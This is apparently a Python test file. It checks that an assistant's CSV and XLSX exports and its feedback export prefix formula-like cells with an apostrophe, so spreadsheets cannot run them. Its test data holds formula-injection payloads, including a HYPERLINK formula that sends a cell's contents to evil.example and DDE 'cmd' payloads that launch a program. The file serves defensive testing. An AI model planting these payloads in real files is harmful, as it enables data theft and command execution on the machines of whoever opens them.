"""Exports a spreadsheet cannot run: real CSV and XLSX files, read back as Excel's libraries read them."""
import csv

import openpyxl

from assistant.exports import write_csv, write_xlsx
from assistant.feedback import FeedbackStore

# The payloads (a reader's question and reason), and one for each character OWASP names.
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN = ["Sở Tài chính", "a=b", "Quý II - 2024", ""]
COLUMNS = ["content", "lead", "page"]


def _rows():
    return [{"content": value, "lead": "Sở Ngoại vụ", "page": 3} for value in HOSTILE + PLAIN]


def test_task_csv_and_xlsx_quote_every_cell_a_spreadsheet_would_run(tmp_path):
    written = list(csv.reader(write_csv(tmp_path / "tasks.csv", _rows(), COLUMNS).open(encoding="utf-8-sig",
                                                                                           newline="")))
    assert written[0] == COLUMNS
    assert [row[0] for row in written[1:]] == ["'" + v for v in HOSTILE] + PLAIN
    assert all(row[1] == "Sở Ngoại vụ" and row[2] == "3" for row in written[1:])

    sheet = openpyxl.load_workbook(write_xlsx(tmp_path / "tasks.xlsx", _rows(), COLUMNS)).active
    cells = list(sheet.iter_rows(min_row=2, max_col=1))
    assert [c[0].value or "" for c in cells] == ["'" + v for v in HOSTILE] + PLAIN
    assert all(c[0].data_type != "f" for c in cells)  # no formula anywhere
    assert sheet.cell(row=2, column=3).value == 3  # numbers stay numbers


def test_xlsx_drops_control_characters_it_cannot_hold_rather_than_failing(tmp_path):
    rows = [{"content": "Hội chợ\x0b ẩm thực\x01", "lead": "", "page": 1}]
    sheet = openpyxl.load_workbook(write_xlsx(tmp_path / "tasks.xlsx", rows, COLUMNS)).active
    assert sheet.cell(row=2, column=1).value == "Hội chợ ẩm thực"


def test_feedback_csv_quotes_what_readers_typed(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.add({"question": HOSTILE[0], "answer": "-", "citations": []}, liked=False, reason=HOSTILE[1], user="@minh")
    row = list(csv.DictReader(store.to_csv().splitlines()))[0]
    assert row["question"] == "'" + HOSTILE[0] and row["reason"] == "'" + HOSTILE[1]
    assert row["answer"] == "'-" and row["user"] == "'@minh" and row["vote"] == "down"
